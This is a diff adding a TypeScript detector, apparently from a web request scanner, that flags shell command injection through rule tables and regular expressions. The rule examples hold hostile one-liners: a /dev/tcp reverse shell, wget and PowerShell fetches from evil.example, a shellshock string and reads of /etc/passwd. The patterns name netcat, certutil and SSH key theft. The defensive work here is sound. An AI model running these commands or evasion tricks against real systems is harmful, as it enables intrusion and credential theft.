@@ -1,0 +1,287 @@
+import { K, SHELL_SURE_WORDS, SHELL_WORDS } from './keywords.ts'
+import { brief, inFence, isDigit, isSpace, isWord, sign, signIf, type Look } from './look.ts'
+import * as place from './place.ts'
+import { rulesOf } from './rules.ts'
+import { C, P } from './scan.ts'
+import { wordSet } from './sql-words.ts'
+
+const rule = rulesOf('command', {
+  chain: [1, 5, 'a separator of a shell, then a command', '; cat /etc/hosts', 'the cat; it sleeps'],
+  substitution: [1, 5, 'a command in a substitution', '$(whoami)', '$(document)'],
+  backtick: [1, 5, 'a command in backticks', '`id`', 'use `id` for it'],
+  shell: [1, 5, 'a shell that is given a command', '/bin/bash -c "id"', 'bash is a shell'],
+  network: [1, 5, 'a shell over the network', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev tcp'],
+  sensitive: [1, 5, 'a command that reads system files', 'cat /etc/passwd', 'cat food'],
+  invocation: [1, 5, 'a command line as the value', 'wget http://evil.example/x', 'wget is a tool'],
+  hidden: [1, 5, 'a command broken by quotes, variables or globs', "c'a't /e?c/h*", "it's a cat"],
+  spaces: [1, 5, "a shell's variable in place of a space", 'cat${IFS}x', 'the IFS variable'],
+  brace: [1, 5, 'a command in a brace list', '{cat,/etc/hosts}', '{a,b}'],
+  windows: [1, 5, 'a command of Windows', '& dir c:\\', 'the dir is here'],
+  powershell: [1, 5, 'a cmdlet of PowerShell that runs or fetches', 'Invoke-Expression (iwr http://evil.example)', 'an expression'],
+  loop: [1, 5, 'a FOR or IF of cmd.exe', 'FOR /F %a IN (x) DO cmd', 'for a in b'],
+  function: [1, 5, 'a function definition of a shell: shellshock, fork bombs', '() { :;}; /bin/sh', 'f() { return }'],
+  redirect: [1, 5, 'output into a system directory', '>/tmp/x', 'a > b'],
+  tilde: [3, 5, 'a tilde expansion', '~+', '~user'],
+  alias: [1, 5, 'an alias for a command', "alias a='curl'", 'an alias'],
+  wrapper: [1, 5, 'a command that starts another', 'nohup whoami', 'no time left'],
+  single: [2, 5, 'a command as the value', 'ls -la', 'list']
+})
+
+const SURE = wordSet(SHELL_SURE_WORDS)
+const PLAIN = wordSet(SHELL_WORDS)
+const WRAPPERS = wordSet('sudo time nohup env exec command builtin eval nice timeout setsid busybox strace xargs watch doas su stdbuf ionice flock chroot unshare nsenter script start cmd call')
+
+export function mayBeCommand (look: Look): boolean {
+  const { chars, words, pairs } = look
+  const commands = words & (K.SHELL | K.SHELL_SURE | K.WINDOWS)
+  if (commands !== 0 && (chars & (C.SEMI | C.PIPE | C.AMP | C.BACKTICK | C.LINE | C.DOLLAR | C.BRACE | C.SLASH | C.GT | C.LT | C.PERCENT | C.QUOTE | C.DQUOTE | C.MINUS | C.BACKSLASH)) !== 0) return true
+  if ((words & (K.SHELL_SURE | K.WINDOWS)) !== 0 && look.count < 12) return true
+  if ((pairs & (P.DOLLAR_PAREN | P.LT_PAREN)) !== 0 || look.text.includes('() {') || look.text.includes('(){')) return true
+  return look.count < 30 && (chars & (C.SEMI | C.PIPE | C.AMP | C.DOLLAR | C.BACKTICK | C.BRACE | C.BRACKET | C.STAR | C.BANG | C.CARET)) !== 0 && (chars & (C.BACKSLASH | C.QUOTE | C.DQUOTE | C.DOLLAR | C.STAR | C.BANG | C.BRACKET | C.SLASH | C.BRACE)) !== 0
+}
+
+export function command (look: Look): void {
+  const { text, chars } = look
+  const chatty = (look.place & place.CHATTY) !== 0
+  if ((chars & C.PAREN) !== 0) signIf(look, rule.function, /(?:^|[\s;"'=])(?:\(\)|[:\w]+\s*\(\s*\))\s*\{\s*(?::|[\w:]+(?:\(\))?\s*[|&]|\w*\s*$|_;)|^\(\)\s*\{/)
+  if (look.score < look.threshold) separators(look, chatty)
+  if (look.score < look.threshold && (chars & C.DOLLAR) !== 0) dollars(look)
+  if (look.score < look.threshold && (chars & C.BACKTICK) !== 0) backticks(look)
+  if (look.score >= look.threshold || !brief(look)) {
+    if (!brief(look)) signIf(look, rule.network, /\/dev\/(?:tcp|udp)\/\d/)
+    return
+  }
+  if (!chatty || (chars & C.SLASH) !== 0) lines(look)
+}
+
+/** Reads the command word at `at` as a shell would: quotes, backslashes, empty substitutions and variables fall away. Returns its end; the word is in `readWord`. */
+let readWord = ''
+let readTricks = 0
+function read (text: string, at: number): number {
+  readWord = ''
+  readTricks = 0
+  let i = at
+  while (i < text.length && readWord.length < 40) {
+    const code = text.charCodeAt(i)
+    if (isWord(code) || code === 46 || code === 47 || code === 63 || code === 42 || code === 91 || code === 93 || code === 45 || code === 43) {
+      if (code === 45 && readWord === '') break
+      readWord += text[i]!
+      i++
+    } else if (code === 39 || code === 34 || code === 92) {
+      if (readWord !== '' || code === 92) readTricks++
+      else if (i === at) readTricks++
+      i++
+    } else if (code === 94) {
+      readTricks++
+      i++
+    } else if (code === 36) {
+      const next = text.charCodeAt(i + 1)
+      if (next === 64 || next === 42 || next === 33 || next === 63 || next === 36 || isDigit(next)) i += 2
+      else if (next === 123 || next === 40) {
+        const end = text.indexOf(next === 123 ? '}' : ')', i)
+        if (end < 0 || end - i > 30) break
+        if (/^\$\{?IFS/.test(text.slice(i, i + 6))) break
+        i = end + 1
+      } else if (next === 39 || next === 34) i++
+      else if (isWord(next) && readWord !== '') {
+        if (text.startsWith('$IFS', i)) break
+        i++
+        while (isWord(text.charCodeAt(i)) && i < at + 60) i++
+      } else break
+      readTricks++
+    } else if (code === 96 && text.charCodeAt(i + 1) === 96) {
+      i += 2
+      readTricks++
+    } else break
+  }
+  return i
+}
+
+/** Words that are whole commands. */
+const ALONE = wordSet('id ls ps who env set pwd dir ver net cat date w top df du free uptime last sleep ping reboot halt shutdown ip ss history groups host dig hash jobs mount vol exit')
+
+/** What a command word is: 0 none, 1 also an English word, 2 surely a command. */
+function rank (word: string): number {
+  const slash = word.lastIndexOf('/')
+  const name = (slash < 0 ? word : word.slice(slash + 1)).toLowerCase().replace(/\.(?:exe|com|bat)$/, '').replace(/[.\d-]+$/, '')
+  const full = slash < 0 ? word.toLowerCase() : word.slice(slash + 1).toLowerCase()
+  if (SURE.has(name) || SURE.has(full)) return 2
+  if (slash >= 0 && /^\/?(?:usr\/(?:local\/)?)?s?bin\//.test(word)) return 2
+  if (PLAIN.has(name) || PLAIN.has(full)) return slash >= 0 ? 2 : 1
+  // Globs that can only mean a binary: `/???/c?t`, `/bin/ca?`, `adduse[r]`.
+  if (/[?*[]/.test(word) && /^\/[\w?*[\]]+\/[\w?*[\]/]+$/.test(word)) return 2
+  return 0
+}
+
+/** Each separator: does a command follow? */
+function separators (look: Look, chatty: boolean): void {
+  const { text } = look
+  const table = /\|[^\n|]*\|[^\n|]*\|/.test(text.slice(0, 4000)) && text.includes('\n')
+  const article = !brief(look)
+  const lines = (look.place & (place.QUERY | place.FORM | place.COOKIE | place.HEADER | place.VALUE)) !== 0 && look.count < 30
+  const length = text.length
+  for (let at = 0; at < length && look.score < look.threshold; at++) {
+    const code = text.charCodeAt(at)
+    if (code !== 59 && code !== 124 && code !== 38 && (code !== 10 || !lines)) continue
+    if (code === 124 && table) continue
+    let next = at + 1
+    while (next < length && (isSpace(text.charCodeAt(next)) || text.charCodeAt(next) === 124 || text.charCodeAt(next) === 38 || text.charCodeAt(next) === 40 || text.charCodeAt(next) === 123)) next++
+    if (next >= length) break
+    const double = text.charCodeAt(at + 1) === code
+    let end = read(text, next)
+    let word = readWord
+    let tricks = readTricks
+    let kind = word === '' ? 0 : rank(word)
+    if (kind > 0 && WRAPPERS.has(word) && isSpace(text.charCodeAt(end))) {
+      const wrapped = read(text, skipSpaces(text, end))
+      const inner = readWord === '' ? 0 : rank(readWord)
+      if (inner > 0) {
+        end = wrapped
+        word = readWord
+        tricks += readTricks
+        kind = 2
+      }
+    }
+    if (kind > 0 && isCommand(look, at, code, next, end, word, kind, tricks, double, chatty, article)) {
+      sign(look, tricks > 0 && kind === 1 ? rule.hidden : rule.chain, at, end + 8)
+      return
+    }
+    at = Math.max(at, next - 1)
+  }
+}
+
+function skipSpaces (text: string, at: number): number {
+  while (isSpace(text.charCodeAt(at))) at++
+  return at
+}
+
+function isCommand (look: Look, at: number, code: number, next: number, end: number, word: string, kind: number, tricks: number, double: boolean, chatty: boolean, article: boolean): boolean {
+  const { text } = look
+  const after = text.charCodeAt(end)
+  const rest = text.slice(end, end + 60)
+  // `&id=5` in a link, `; charset=utf-8` in a header, `;width:5px` in a style, `&amp;`.
+  if (inFence(look, at, true)) return false
+  if (after === 61 || (after === 58 && code === 59) || (after === 59 && code === 38 && next === at + 1 && !double)) return false
+  if (after === 40 && code !== 10) return /^\(\s*\)?\s*$/.test(rest) ? false : kind === 2 && /^\(["']/.test(rest)
+  if (code === 10 && (kind < 2 || article || !/^[ \t]*(?:$|[-/|;>&$"'~.]|https?:|\w+[./-])/.test(rest))) {
+    return !article && /^[ \t]+(?:-\w|\/\w)/.test(rest) && look.count < 12
+  }
+  if (chatty && (kind < 2 || !/^\s*(?:[-/|;>&$]|https?:|$)/.test(rest) || /\//.test(word))) return false
+  const quoted = tricks > 0
+  const finished = /^\s*(?:$|[;|&`)<>\n"'}#%])/.test(rest)
+  const argued = /^(?:\s+|\$IFS|\$\{IFS|<|>|%09|%20)[{$]*(?:-{1,2}\w|[/.~$*?%"'`\\<>|]|https?:|\d|[\w-]*[./@:*?$][\w/]|[a-z]:|\/)/i.test(rest) || (kind === 2 && /^\s+[\w.-]+\s*(?:$|[;|&>`)])/.test(rest))
+  if (article) {
+    // In an article a separator followed by a command is nearly always shown code.
+    const strong = /(?:\/etc\/(?:passwd|shadow)|\/bin\/(?:ba)?sh|\/dev\/tcp)/.test(rest) || (/^(?:whoami|ifconfig|ipconfig|systeminfo)$/i.test(word) && finished)
+    return strong && !/[\w,.]\s+\w+\s*$/.test(text.slice(Math.max(0, at - 30), at))
+  }
+  if (kind === 1 && finished && !argued && !quoted && !ALONE.has(word.toLowerCase())) return false
+  if (kind === 2) return finished || argued || code !== 38 || double || quoted || /^\s/.test(rest)
+  if (code === 38 && !double && next === at + 1 && !quoted && !argued) return finished && /^(?:id|ls|dir|pwd|ps|ver|net|whoami|set|env|w|sleep|ping|apt|aptitude)$/i.test(word) && text.length < 60 && !/[?&]\w+=/.test(text.slice(0, at))
+  if (quoted) return finished || argued
+  const before = at > 0 ? text.charCodeAt(at - 1) : 0
+  if (code === 59 && isWord(before) && text.charCodeAt(at + 1) === 32 && !argued) return finished && look.count <= 6 && text.length < 80
+  // A sentence goes on with plain words: "; find out more".
+  if (/^\s+[a-z]+(?:\s+[a-z]+){2,}/i.test(rest) && !/^\s+-/.test(rest)) return false
+  return finished || argued
+}
+
+/** `$(`, `${`, `$IFS`, `<(`: substitutions. */
+function dollars (look: Look): void {
+  const { text } = look
+  const short = brief(look)
+  if (short) signIf(look, rule.spaces, /\$\{?IFS\b|\$\{(?:PATH|HOME|PWD|SHELL|LS_COLORS|OLDPWD|HOSTNAME|PS\d)[:%#}]|\$\{?SHELL\}?\s+-|\$@|\$'\\|%(?:PROGRAMFILES|COMSPEC|SYSTEMROOT|PATH|HOMEPATH)(?::|%)/i)
+  for (let at = text.indexOf('$('); at >= 0 && look.score < look.threshold; at = text.indexOf('$(', at + 2)) {
+    let from = at + 2
+    while (isSpace(text.charCodeAt(from)) || text.charCodeAt(from) === 40) from++
+    const end = read(text, from)
+    const word = readWord
+    const kind = word === '' ? 0 : rank(word)
+    const after = text.charCodeAt(end)
+    if (text.charCodeAt(at + 2) === 40 && short && /^\(\(?\s*\d+\s*[-+*/]\s*\d+/.test(text.slice(at + 2, at + 30))) sign(look, rule.substitution, at, end)
+    else if (kind > 0 && (isSpace(after) || after === 41 || after === 60 || after === 36 || after === 124 || after === 59)) {
+      if (short ? (kind === 2 || !/^\w+\s+[a-z]+\s+[a-z]+\s+[a-z]+/.test(text.slice(from, from + 60))) : kind === 2 && /^(?:whoami|uname|ifconfig)$/.test(word) && !inFence(look, at) && after === 41) sign(look, rule.substitution, at, end)
+    } else if (short && look.count < 6 && after === 41 && (word === 'cmd' || readTricks > 0)) sign(look, rule.substitution, at, end)
+  }
+}
+
+/** Commands in backticks; in an article backticks quote code, and count for nothing. */
+function backticks (look: Look): void {
+  const { text } = look
+  if (!brief(look)) return
+  let open = text.indexOf('`')
+  while (open >= 0 && look.score < look.threshold) {
+    if (text.startsWith('```', open)) {
+      open = text.indexOf('`', Math.max(text.indexOf('```', open + 3), open) + 3)
+      continue
+    }
+    const from = skipSpaces(text, open + 1)
+    const end = read(text, from)
+    const kind = readWord === '' ? 0 : rank(readWord)
+    const close = text.indexOf('`', open + 1)
+    if (kind > 0 && (close < 0 || close >= end)) {
+      const before = open > 0 ? text.charCodeAt(open - 1) : 0
+      const prose = open > 2 && isSpace(before) && /[a-z,.:]\s+$/i.test(text.slice(Math.max(0, open - 12), open))
+      const alone = (close === text.length - 1 || close < 0) && open < 3
+      if (!prose && (alone || kind === 2 || look.count < 10) && close - open !== 1) sign(look, rule.backtick, open, end)
+    }
+    if (close < 0) break
+    open = text.indexOf('`', close + 1)
+  }
+}
+
+const NETWORK = /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)(?:\.\w+)?\s+(?:-\w+\s+)*(?:-\w*[elc]\w*|[\w.]+\s+\d+)|\b(?:ba|z|k|c|da)?sh\s+-i\b|0[<>]&\d|>&\s*\/dev|mkfifo\s+\/|socket\.socket|fsockopen\(|TCPSocket|\bsocat\s+\S+:|exec:['"]|telnet\s+[\d.]+\s+\d+\s*\|/i
+const SENSITIVE = /\b(?:cat|tac|less|more|head|tail|nl|od|xxd|strings|grep|awk|sed|cp|mv|ls|dd|find|base64|cut|sort|type|vi|vim|nano|rev|curl|wget|chmod|rm|tee|locate|file|stat|diff|uniq|wc|ln|tar)\b[^\n;|]{0,80}?(?:\/etc\/|\/proc\/|\/bin\/|\/var\/log|\/root\b|\/dev\/(?:tcp|sd|null)|~\/\.ssh|id_rsa|\.bash_history|win\.ini|boot\.ini|\/tmp\/|\/home\/|if=\/|\/usr\/)/i
+const SHELL = /(?:^|[\s;|&"'=(`/])(?:\/(?:usr\/(?:local\/)?)?s?bin\/[\w.-]+(?:\s|$|['"`)|;])|(?:ba|z|k|c|da|tc|fi)?sh\s+-c\b|(?:python[\d.]*|perl|ruby|php|node|lua|busybox)\s+(?:-\w*[ecr]\w*\s*['"(\w]|-m\s+http|-c\s)|\$\{?SHELL\}?\s+-c|cmd(?:\.exe)?\s*(?:\/[ck]|\^)|cmd\.exe|powershell(?:\.exe)?\s+(?:-\w+|[a-z]:|["'&]))|(?:\|\s*(?:ba|z|da|k)?sh\s*(?:$|[;#&"'`)]|\+?``|-))|<<<|\bIFS=|base64\s+(?:-d|--decode|-D)\b|\|\s*(?:xxd|rev|base64|tr\s)/i
+const POWERSHELL = /\b(?:Invoke-(?:Expression|WebRequest|RestMethod|Command|Item|Shellcode|Mimikatz|Method|WmiMethod)|IEX\s*[("'$]|Start-(?:Process|BitsTransfer|Job)|New-Object\s+(?:System\.)?(?:Net|IO|Diagnostics)|Download(?:String|File|Data)\s*\(|-(?:enc|encodedcommand)\s+[A-Za-z0-9+/=]{8,}|Get-(?:Content|ChildItem|Process|Service|WmiObject|Command|Host|Item)\b|Set-ExecutionPolicy|(?:iwr|irm)\s+(?:-\w+\s+)*['"]?https?:|\[System\.(?:Net|IO|Text|Diagnostics|Convert)|Add-Type|Net\.WebClient)/i
+const CMD = /\bFOR\s+(?:\/[FLDR]\s|%+\S+\s+IN\s*\()|\bIF\s+(?:\/I\s+)?(?:NOT\s+)?(?:EXIST\s|DEFINED\s|ERRORLEVEL\s|"?%|X%)|\b(?:certutil|bitsadmin|regsvr32|rundll32|mshta|wmic|schtasks|bcdboot)(?:\.exe)?\s+[-/\w%<\\]+|\bnet\s+(?:user|localgroup|group|share|use|view|start|stop)\b|\breg(?:edit)?(?:\.exe)?\s+(?:\/|add|query|delete|save)|%(?:comspec|systemroot|systemdrive|programfiles|appdata|temp|windir|userprofile|username|computername|os)(?:%|:)|\btype\s+(?:%|[a-z]:\\|\\)|\bdir\s+(?:[a-z]:[\\/]|\/[a-z]\b|%)|\becho\s+%\w+%|\bcopy\s+con\b|\battrib\s+[+-]|\bicacls\s|\bsc\s+(?:create|config|query)\b|\bping\s+-n\s+\d/i
+const INVOCATION = /^\s*(?:["'`]?\s*[;|&]*\s*)(?:wget|curl|lynx|fetch|ftp|tftp|scp|rsync)\s+(?:-{1,2}\S+\s+)*(?:['"]?(?:https?|ftp):\/\/|\S+\.(?:com|net|org|io|sh|COM)\b|\d{1,3}\.\d)|^\s*(?:ping|nslookup|dig|host|traceroute|tracert)\s+(?:-\w+\s+\d*\s*)*(?:\d{1,3}(?:\.\d{1,3}){3}|[\w.-]+\.\w{2,})\s*(?:$|[;|&#])|^\s*(?:chmod|chown)\s+(?:-\w+\s+)*[0-7+rwx]{2,}\s+\S|^\s*rm\s+-\w*[rf]|^\s*(?:uname|ifconfig|ipconfig|netstat|id|whoami|hostname|ps|pwd|env|printenv)(?:\s+-\w+)?\s*$|^\s*sleep\s+\d+\s*$|^\s*kill\s+'?-|^\s*(?:cat|ls|head|tail)\s+(?:-\w+\s+)?[/~.*]\S*\s*$|^\s*(?:ls|ps|uname|df|du|netstat)\s+-\w+\s*$|^\s*dd\s+if=/
+
+/** Whole command lines, in texts that are short enough to be one. */
+function lines (look: Look): void {
+  const { text, words } = look
+  const header = (look.place & place.CHATTY) !== 0
+  const prose = /(?:^|[\s(])(?:the|and|of|is|that|with|this|you|your|for|are|from|to|it)\s+[a-z]+[\s,.]/i.test(text) && look.count > 8
+  signIf(look, rule.network, NETWORK)
+  if (header) {
+    signIf(look, rule.shell, /\/bin\/(?:ba)?sh\s+-c|\bnc\s+-\w*[le]/)
+    return
+  }
+  if (!prose) {
+    signIf(look, rule.sensitive, SENSITIVE)
+    if ((words & (K.SHELL_SURE | K.WINDOWS)) !== 0 || text.includes('<<<') || (look.chars & C.PIPE) !== 0) signIf(look, rule.shell, SHELL)
+    signIf(look, rule.windows, CMD)
+    if (text.includes('<(') || text.includes('>(')) signIf(look, rule.substitution, /[<>]\(\s*(?:\)|\w+[\s)])/)
+    signIf(look, rule.redirect, /(?:^|\s|\w)>{1,2}\s*\/(?:tmp|etc|var|dev|usr|root|home)\/\w/)
+    signIf(look, rule.alias, /(?:^|[;&|]\s*)alias\s+(?:[-+]\w+\s+)*[+\w"'.-]+\s*=\s*\S/)
+  } else signIf(look, rule.loop, /\bFOR\s+\/[FLDR]\s+%|\bFOR\s+%+\S+\s+IN\s*\(/i)
+  if ((words & (K.WINDOWS | K.SHELL_SURE)) !== 0) signIf(look, rule.powershell, POWERSHELL)
+  if ((look.place & (place.NAME | place.PATH)) === 0 || look.count < 8) signIf(look, rule.invocation, INVOCATION)
+  if (prose) return
+  // Braces: `{cat,/etc/hosts}`, `{,ifconfig,eth0}`.
+  if ((look.chars & C.BRACE) !== 0 && !text.includes(':')) signIf(look, rule.brace, /(?:^|[\w;|&=("'\s])\{(?:,[\w#$"'./-]+[,}]|(?:cat|ls|l|id|cp|rm|nc|wget|curl|ping|echo|bash|sh|uname|n\$u)\b[^{}:]*,[^{}:]*\}|[\w/?*$.\\-]+,[-/][^{}]*\}|[\w/]*\?[\w/?]*,?\})/)
+  hidden(look)
+}
+
+/** Words broken to pass a filter: `c'a't`, `w\\ho`, `/e?c/p*`, `$u` inside. */
+function hidden (look: Look): void {
+  const { text } = look
+  if (look.count > 16) return
+  if (/[?*[\]]/.test(text)) signIf(look, rule.hidden, /(?:^|[\s;|&=('"])\/(?:[\w?*[\]!]*[?*[][\w?*[\]!-]*\/[\w?*[\]!./-]+|(?:bin|etc|usr|var|proc)\/[\w/]*[?*[][\w?*[\]!-]*)/)
+  if (!/[\\'"$`]/.test(text)) return
+  let at = 0
+  let tries = 0
+  while (at < text.length && tries < 40) {
+    const end = read(text, at)
+    const plain = readWord
+    if (readTricks > 1 && /[\w/?]['"\\$`]/.test(text.slice(at, end)) && rank(plain) > 0 && /[a-z/]/.test(plain) && plain.length > 1) {
+      const raw = text.slice(at, end)
+      if (/\w(?:''|""|``|\\|\$[@*!?$\w({]|['"]\w+['"])\w?/.test(raw) && !/^["'][\w.-]+["']?$/.test(raw)) {
+        sign(look, rule.hidden, at, end)
+        return
+      }
+    }
+    at = end + 1
+    tries++
+  }
+}
